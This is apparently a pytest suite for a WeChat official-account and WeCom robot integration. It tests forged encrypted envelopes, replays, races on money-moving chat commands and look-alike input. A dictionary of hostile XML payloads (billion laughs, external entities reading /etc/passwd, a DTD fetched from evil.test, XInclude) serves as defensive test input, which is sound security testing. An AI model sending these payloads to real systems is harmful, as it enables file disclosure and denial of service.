"""Probe 22, messages from WeChat: the official account's push, the WeCom robot's callback, chat commands that move
money, and what the app says back to WeChat (web/push.py, web/wecom_bot.py, jobs/messages.py, jobs/chat_commands.py,
wechat/wecom.py, wechat/chattool.py).

Pushes and callbacks are built as WeChat builds them (``wechat.push.build_push``, ``wechat.wecom.build_callback``
under the app's own token and keys); hostile ones are built by hand under the same keys, so only the part under
test is wrong. Outbound HTTP is ``responses`` (none is expected from the callbacks themselves).
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import secrets
import struct
import time
from datetime import timedelta

import pytest
import responses
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from sqlalchemy import func, select

from jobs.challenge_posts import update_chat_tool_cards
from jobs.messages import apply_messages
from models import (
    BotCallback,
    Challenge,
    ChallengeParticipant,
    ChatBinding,
    ChatReply,
    ChatToolCard,
    InboundMessage,
    Transport,
    db,
    utcnow,
)
from models.messages import requeue_failed
from tests.challenge_helpers import cash, staked
from tests.concurrency import together
from tests.test_chattool_cards import friends, start  # noqa: F401 - two people bound in a chat-tool group
from tests.test_wecom_bot import RecordingOps, bind, ops, person, robot  # noqa: F401 - the robot, the game recorded
from web.push import push_settings
from web.wecom_bot import bot_settings
from wechat import wecom
from wechat.chattool import ChatToolClient
from wechat.mp import MemoryTokenStore
from wechat.push import build_push, message_xml
from wechat.sim.messages import OA_OPENID_PREFIX

API = "https://api.weixin.test"


# -- the chat tool's activity id: an answer we cannot read fails that card, never the job's pass --------------------


def _chat_tool_client(app) -> ChatToolClient:
    store = MemoryTokenStore()
    store.set(f"access_token:{app.config['WECHAT_APPID']}", "T", 7000)
    return ChatToolClient(app.config["WECHAT_APPID"], "secret", store, API)


@pytest.mark.parametrize(
    "answer",
    [
        {"activity_id": "a-1", "expiration_time": "tomorrow"},  # int() raised ValueError out of the job
        {"activity_id": "a-1", "expiration_time": 10**15},  # a year past 9999: fromtimestamp raised in the job
        {"activity_id": "a-1", "expiration_time": True},
        {"activity_id": "a" * 129, "expiration_time": int(time.time()) + 86400},  # longer than its column holds
    ],
)
@responses.activate
def test_an_activity_answer_that_cannot_be_read_fails_that_card_and_the_next_pass_tries_again(
    app, client, friends, answer
):  # noqa: F811
    (alice, ah) = friends["alice"]
    assert start(client, ah).status_code == 201
    responses.post(f"{API}/cgi-bin/message/wxopen/activityid/create", json={"errcode": 0, **answer})
    responses.post(f"{API}/cgi-bin/message/wxopen/chattoolmsg/send", json={"errcode": 0})
    assert update_chat_tool_cards(client=_chat_tool_client(app)) == {"failed": 1}
    card = db.session.execute(select(ChatToolCard)).scalar_one()
    assert (card.busy_since, card.attempts, card.activity_id, card.shown_state) == (None, 1, None, 0)
    assert "UNPARSEABLE_RESPONSE" in card.last_error
    sent = [c for c in responses.calls if "chattoolmsg" in c.request.url]
    assert sent == []  # the card was not set with an activity id we could not keep
    assert update_chat_tool_cards() == {"updated": 1}  # the simulator's good answer: the card is set


# -- helpers: pushes and callbacks built by hand under the app's own keys --------------------------------------------

OPENID = OA_OPENID_PREFIX + "alice"


def _raw_cipher(aes_key: str, plain: bytes) -> str:
    """``plain`` (already padded by the caller, however wrongly) under the EncodingAESKey, IV = key[:16], base64."""
    key = base64.b64decode(aes_key + "=")
    enc = Cipher(algorithms.AES(key), modes.CBC(key[:16])).encryptor()
    return base64.b64encode(enc.update(plain) + enc.finalize()).decode()


def _pkcs7_32(data: bytes) -> bytes:
    n = 32 - len(data) % 32
    return data + bytes([n]) * n


def _framed(message: bytes, receive_id: bytes) -> bytes:
    return os.urandom(16) + struct.pack(">I", len(message)) + message + receive_id


def _sha1(*parts: str) -> str:
    return hashlib.sha1("".join(sorted(parts)).encode()).hexdigest()  # noqa: S324 - WeChat's signature


def oa_signed(settings, encrypt: str, *, timestamp: int | None = None) -> tuple[dict, bytes]:
    """A safe-mode push of ``encrypt`` (any ciphertext) signed with the token as WeChat signs."""
    ts, nonce = str(timestamp or int(time.time())), str(secrets.randbelow(10**10))
    args = {
        "signature": _sha1(settings.token, ts, nonce),
        "timestamp": ts,
        "nonce": nonce,
        "encrypt_type": "aes",
        "msg_signature": _sha1(settings.token, ts, nonce, encrypt),
    }
    body = f"<xml><ToUserName><![CDATA[gh_oa]]></ToUserName><Encrypt><![CDATA[{encrypt}]]></Encrypt></xml>"
    return args, body.encode()


def text_push(content: str, msg_id: str, openid: str = OPENID) -> dict:
    return {
        "ToUserName": "gh_oa",
        "FromUserName": openid,
        "CreateTime": int(time.time()),
        "MsgType": "text",
        "Content": content,
        "MsgId": msg_id,
    }


def oa_counts() -> tuple[int, ...]:
    db.session.expire_all()
    return tuple(
        db.session.execute(select(func.count()).select_from(t)).scalar_one()
        for t in (InboundMessage, ChatReply, Challenge, ChallengeParticipant)
    )


@pytest.fixture
def oa(app):
    with app.test_request_context():
        return push_settings("oa")


def post_push(client, args, body, **kw):
    return client.post("/wechat/oa/push", query_string=args, data=body, **kw)


# -- official account: encrypted envelopes that are not WeChat's ------------------------------------------------------


def test_safe_mode_envelopes_for_another_appid_with_bad_padding_or_cut_short_are_refused_and_write_nothing(client, oa):
    assert oa.safe_mode and oa.appid
    xml = message_xml(text_push("加入 1", "m-1")).encode()
    good = _pkcs7_32(_framed(xml, oa.appid.encode()))
    cases = {
        "another appid": _raw_cipher(oa.aes_key, _pkcs7_32(_framed(xml, b"wx-another-app"))),
        "no appid": _raw_cipher(oa.aes_key, _pkcs7_32(_framed(xml, b""))),
        "pad byte zero": _raw_cipher(oa.aes_key, good[:-1] + b"\x00"),
        "pad byte 33": _raw_cipher(oa.aes_key, good[:-1] + b"\x21"),
        "pad bytes disagree": _raw_cipher(oa.aes_key, good[:-2] + b"\x07\x02"),
        "cut to whole blocks": _raw_cipher(oa.aes_key, good)[: 4 * ((len(_raw_cipher(oa.aes_key, good)) // 2) // 4)],
        "cut mid block": base64.b64encode(base64.b64decode(_raw_cipher(oa.aes_key, good))[:-5]).decode(),
        "not base64": "%%%" + _raw_cipher(oa.aes_key, good)[3:],
        "empty plaintext": _raw_cipher(oa.aes_key, _pkcs7_32(b"")),
        "length past the end": _raw_cipher(
            oa.aes_key, _pkcs7_32(os.urandom(16) + struct.pack(">I", 10_000) + xml + oa.appid.encode())
        ),
    }
    before = oa_counts()
    for name, encrypt in cases.items():
        args, body = oa_signed(oa, encrypt)
        answer = post_push(client, args, body)
        assert answer.status_code in (400, 403), (name, answer.status_code, answer.data)
        assert answer.data != b"success", name
    assert oa_counts() == before
    args, body = oa_signed(oa, _raw_cipher(oa.aes_key, good))  # the same, right: recorded
    assert post_push(client, args, body).data == b"success"
    assert oa_counts()[0] == before[0] + 1


HOSTILE = {
    "doctype": '<?xml version="1.0"?><!DOCTYPE xml [<!ELEMENT xml ANY>]><xml><MsgType>text</MsgType></xml>',
    "billion laughs": '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;'
    '&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><xml><Content>&c;</Content></xml>',
    "external entity": '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    "<xml><Content>&x;</Content></xml>",
    "parameter entity": '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.test/p.dtd">%p;]><xml/>',
    "deep": "<xml>" + "<a>" * 5000 + "x" + "</a>" * 5000 + "</xml>",
    "xinclude": '<xml xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/>'
    "<MsgType>text</MsgType></xml>",
    "not xml": "<xml><MsgType>text</MsgType>",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
@responses.activate  # nothing may be fetched (an external entity, a DTD): no URL is registered
def test_hostile_xml_inside_the_ciphertext_or_as_the_envelope_is_a_400_and_writes_nothing(client, oa, name):
    hostile = HOSTILE[name].encode()
    before = oa_counts()
    inside = _raw_cipher(oa.aes_key, _pkcs7_32(_framed(hostile, oa.appid.encode())))
    args, body = oa_signed(oa, inside)
    answer = post_push(client, args, body)
    assert answer.status_code == 400, (answer.status_code, answer.data)
    args, _ = oa_signed(oa, "x")
    answer = post_push(client, args, hostile)  # the envelope itself
    assert answer.status_code in (400, 403), (answer.status_code, answer.data)
    assert oa_counts() == before and len(responses.calls) == 0


def test_an_oversize_push_without_a_length_is_413_and_writes_nothing(client, oa):
    built = build_push(oa, text_push("x" * 70_000, "m-big"))

    before = oa_counts()
    answer = client.post(  # chunked: no Content-Length (the server marks the stream terminated)
        "/wechat/oa/push",
        query_string=built.args,
        input_stream=io.BytesIO(built.body),
        environ_base={"wsgi.input_terminated": True},
    )
    assert answer.status_code == 413 and oa_counts() == before


@responses.activate  # the answer calls no one: any outbound call would fail the push
def test_a_push_is_answered_success_at_once_and_its_retries_too(client, oa):
    fields = text_push("帮助", "m-fast")
    for _ in range(3):
        built = build_push(oa, fields)
        began = time.monotonic()
        answer = post_push(client, built.args, built.body)
        assert (answer.status_code, answer.data, answer.mimetype) == (200, b"success", "text/plain")
        assert time.monotonic() - began < 1.0  # far inside WeChat's 5 s
    assert oa_counts()[0] == 1 and len(responses.calls) == 0


# -- the WeCom robot: envelopes that are not WeCom's ------------------------------------------------------------------


def wecom_post(client, settings, encrypt: str, *, timestamp: int | None = None):
    ts, nonce = str(timestamp or int(time.time())), str(secrets.randbelow(10**10))
    args = {"msg_signature": wecom.sign(settings.token, ts, nonce, encrypt), "timestamp": ts, "nonce": nonce}
    return client.post(
        "/wechat/wecom/bot", query_string=args, data=json.dumps({"encrypt": encrypt}), content_type="application/json"
    )


def bot_rows() -> int:
    db.session.expire_all()
    return db.session.execute(select(func.count()).select_from(BotCallback)).scalar_one()


def test_robot_envelopes_for_a_corp_id_with_bad_padding_or_cut_short_are_refused_and_write_nothing(app, client):
    settings = bot_settings()
    plain = json.dumps(wecom.text_message(settings.bot_id, "alice", "帮助", msgid="w-1")).encode()
    good = _pkcs7_32(_framed(plain, b""))
    whole = base64.b64decode(_raw_cipher(settings.aes_key, good))
    cases = {
        "a corp id": _raw_cipher(settings.aes_key, _pkcs7_32(_framed(plain, b"ww0123456789abcdef"))),
        "pad byte zero": _raw_cipher(settings.aes_key, good[:-1] + b"\x00"),
        "pad bytes disagree": _raw_cipher(settings.aes_key, good[:-2] + b"\x07\x02"),
        "cut to whole blocks": base64.b64encode(whole[:-32]).decode(),
        "cut mid block": base64.b64encode(whole[:-5]).decode(),
        "length past the end": _raw_cipher(
            settings.aes_key, _pkcs7_32(os.urandom(16) + struct.pack(">I", 10_000) + plain)
        ),
        "not utf-8": _raw_cipher(settings.aes_key, _pkcs7_32(_framed(b"\xff\xfe" + plain, b""))),
        "another key": _raw_cipher(base64.b64encode(os.urandom(32)).decode()[:-1], good),
    }
    for name, encrypt in cases.items():
        answer = wecom_post(client, settings, encrypt)
        assert answer.status_code in (400, 403), (name, answer.status_code, answer.data)
    assert bot_rows() == 0
    answer = wecom_post(client, settings, _raw_cipher(settings.aes_key, good))
    assert answer.status_code == 200 and bot_rows() == 1


def test_a_signed_robot_callback_replayed_after_the_max_age_is_refused(app, client, robot):
    old = int(time.time()) - app.config["WECOM_BOT_MAX_AGE_SECONDS"] - 5
    answer, _ = robot("alice", "帮助", msgid="w-old", timestamp=old)
    assert answer.status_code == 403 and bot_rows() == 0


# -- chat commands: who may say them, and how they are written --------------------------------------------------------


def _challenge(robot, user_headers, client, make_user, chatid="g1"):
    alice = person(make_user, "Alice", 20_00)
    bind(client, user_headers, robot, alice, "alice")
    robot("alice", "发起步数挑战 3天 每人5元", chatid=chatid)
    return alice, db.session.execute(select(Challenge)).scalar_one().id


def test_commands_from_an_unbound_person_another_group_or_too_long_move_nothing(
    client, user_headers, make_user, robot, ops
):
    alice, cid = _challenge(robot, user_headers, client, make_user)
    bob = person(make_user, "Bob", 10_00)
    _, text = robot("bob", f"加入 {cid}", chatid="g1")  # not bound yet
    assert "还没有绑定" in text and (cash(bob.id), staked(bob.id)) == (10_00, 0)
    bind(client, user_headers, robot, bob, "bob")
    _, text = robot("bob", f"加入 {cid}", chatid="g2")  # another group
    assert "本群没有这个挑战" in text and (cash(bob.id), staked(bob.id)) == (10_00, 0)
    _, text = robot("bob", "加入 " + "1" * 5000, chatid="g1")
    assert "太长" in text and (cash(bob.id), staked(bob.id)) == (10_00, 0)
    _, text = robot("bob", f"加入 {cid}" + " " * 600, chatid="g1")  # a command padded past the limit
    assert "太长" in text and (cash(bob.id), staked(bob.id)) == (10_00, 0)
    for lookalike in ("加入 ١", "加入 ۱", "加入 𝟏x", "加入 ¹", "加入 ①"):  # other scripts' and styled digits
        _, text = robot("bob", lookalike.replace("1", str(cid)), chatid="g1")
        assert "你已加入" not in text, lookalike
    assert (cash(bob.id), staked(bob.id)) == (10_00, 0)
    assert [c for c in ops.calls if c[0] == "join"] == []
    _, text = robot(
        "bob",
        f"＠挑战机器人　加入　＃{str(cid).translate(str.maketrans('0123456789', '０１２３４５６７８９'))}",
        chatid="g1",
    )
    assert f"你已加入 #{cid}" in text and (cash(bob.id), staked(bob.id)) == (5_00, 5_00)


def test_two_joins_said_at_once_with_two_message_ids_stake_once(app, client, user_headers, make_user, robot, ops):
    alice, cid = _challenge(robot, user_headers, client, make_user)
    bob = person(make_user, "Bob", 10_00)
    bind(client, user_headers, robot, bob, "bob")
    settings = bot_settings()
    built = [
        wecom.build_callback(settings, wecom.text_message(settings.bot_id, "bob", f"加入 {cid}", chatid="g1"))
        for _ in range(3)
    ]

    def post(i):
        return app.test_client().post("/wechat/wecom/bot", query_string=built[i].args, data=built[i].body).status_code

    assert set(together(3, post)) <= {200, 503}
    db.session.expire_all()
    assert (cash(bob.id), staked(bob.id)) == (5_00, 5_00)
    assert db.session.get(Challenge, cid).participants == 2


# -- official account commands: WeChat's retries and a person's double send, at once ---------------------------------


def bind_oa(app, user_id: int) -> None:
    db.session.add(
        ChatBinding(
            user_id=user_id,
            transport=Transport.OA,
            scope=app.config["WECHAT_OA_APPID"],
            external_id=OPENID,
            created_at=utcnow(),
        )
    )
    db.session.commit()


def test_the_same_msgid_pushed_at_once_is_recorded_once_and_its_join_stakes_once(
    app, client, user_headers, make_user, robot, ops, oa
):
    alice, cid = _challenge(robot, user_headers, client, make_user)
    bob = person(make_user, "Bob", 10_00)
    bind_oa(app, bob.id)
    built = build_push(oa, text_push(f"加入 {cid}", "m-race"))

    def post(_):
        answer = app.test_client().post("/wechat/oa/push", query_string=built.args, data=built.body)
        return answer.status_code, answer.data

    results = together(4, post)
    assert all(r in ((200, b"success"), (503, r[1])) for r in results), results
    assert (200, b"success") in results
    assert oa_counts()[0] == 1
    together(2, lambda _: apply_messages(), app=app)  # two workers at once
    db.session.expire_all()
    assert (cash(bob.id), staked(bob.id)) == (5_00, 5_00)
    assert db.session.execute(select(ChatReply.text)).scalars().all() == [
        f"你已加入 #{cid}。发送「排行榜 {cid}」看成绩。"
    ]


def test_a_join_sent_twice_under_two_msgids_and_applied_by_two_workers_at_once_stakes_once(
    app, client, user_headers, make_user, robot, ops, oa
):
    alice, cid = _challenge(robot, user_headers, client, make_user)
    bob = person(make_user, "Bob", 10_00)
    bind_oa(app, bob.id)
    for msg_id in ("m-a", "m-b", "m-c"):
        built = build_push(oa, text_push(f"加入 {cid}", msg_id))
        assert post_push(client, built.args, built.body).data == b"success"
    results = together(3, lambda _: apply_messages(), app=app)
    assert not any(isinstance(r, Exception) for r in results), results
    db.session.expire_all()
    assert (cash(bob.id), staked(bob.id)) == (5_00, 5_00)
    assert db.session.get(Challenge, cid).participants == 2
    assert {m.status for m in db.session.execute(select(InboundMessage)).scalars()} == {"done"}


def test_a_join_applied_long_after_it_was_said_stakes_nothing_and_asks_for_it_again(
    app, client, user_headers, make_user, robot, ops, oa, time_machine
):
    """A command to the official account is applied by the worker after the push was answered: at once, or after
    retries (WeChat's user-info API down, the database busy), or when an operator requeues a failed message, days
    later. A join or a start then staked the person's balance in a game they asked for long before (and whose answer
    WeChat may no longer deliver: 45015 after 48 h)."""
    alice, cid = _challenge(robot, user_headers, client, make_user)
    bob = person(make_user, "Bob", 10_00)
    bind_oa(app, bob.id)
    said = utcnow()
    time_machine.move_to(said, tick=True)
    for content, msg_id in ((f"加入 {cid}", "m-late"), ("发起阅读挑战 3天 每人2元", "m-late-2"), ("我的挑战", "m-3")):
        built = build_push(oa, text_push(content, msg_id))
        assert post_push(client, built.args, built.body).data == b"success"
    for row in db.session.execute(select(InboundMessage)).scalars():  # every attempt failed (a cause since fixed)
        row.status = "failed"
    db.session.commit()
    time_machine.move_to(said + timedelta(hours=2), tick=True)
    for row_id in db.session.execute(select(InboundMessage.id)).scalars().all():
        assert requeue_failed(row_id, utcnow())[1]
    db.session.commit()
    apply_messages()
    db.session.expire_all()
    assert (cash(bob.id), staked(bob.id)) == (10_00, 0)
    assert db.session.execute(select(func.count()).select_from(Challenge)).scalar_one() == 1
    assert [c for c in ops.calls if c[0] == "join" or c[1] == bob.id] == []
    replies = db.session.execute(select(ChatReply.text).order_by(ChatReply.id)).scalars().all()
    assert len(replies) == 3 and all("重新发送" in r for r in replies[:2]) and "你还没有参加挑战" in replies[2]
    # said again now: it runs
    built = build_push(oa, text_push(f"加入 {cid}", "m-again"))
    assert post_push(client, built.args, built.body).data == b"success"
    apply_messages()
    db.session.expire_all()
    assert (cash(bob.id), staked(bob.id)) == (5_00, 5_00)


@pytest.mark.parametrize("depth", [20, 500, 800, 2000])
def test_a_signed_robot_message_nested_deep_is_a_clear_400_not_a_500(app, client, depth):
    """Nested a few hundred deep the JSON reader took it and the check for storable text recursed past Python's
    limit: a 500 (and WeCom's retries, each a 500)."""
    settings = bot_settings()
    message = wecom.text_message(settings.bot_id, "alice", "帮助", msgid=f"deep-{depth}")
    plain = json.dumps(message)[:-1] + ', "quote": ' + "[" * depth + "]" * depth + "}"
    answer = wecom_post(client, settings, _raw_cipher(settings.aes_key, _pkcs7_32(_framed(plain.encode(), b""))))
    assert (answer.status_code, answer.data) == (400, b"MALFORMED_JSON")
    assert bot_rows() == 0


def test_a_binding_code_typed_full_width_binds_and_a_lookalike_letter_does_not(client, user_headers, make_user, robot):
    """A Chinese keyboard in full-width mode types ＡＢＣＤ－ＥＦＧＨ: the same code (NFKC), not a 422. A Cyrillic А is
    another letter: refused, as any wrong code."""
    alice = make_user()
    _, text = robot("alice", "绑定")
    code = text.split("：", 1)[1].split("\n", 1)[0]
    full = code.translate({c: c + 0xFEE0 for c in range(0x21, 0x7F)})
    cyrillic = code.replace("A", "А").replace("E", "Е").replace("K", "К").replace("M", "М").replace("P", "Р")
    if cyrillic != code:
        answer = client.post("/api/v1/me/chat-bindings", json={"code": cyrillic}, headers=user_headers(alice))
        assert answer.status_code == 422
    answer = client.post("/api/v1/me/chat-bindings", json={"code": full}, headers=user_headers(alice))
    assert answer.status_code == 201, answer.get_json()
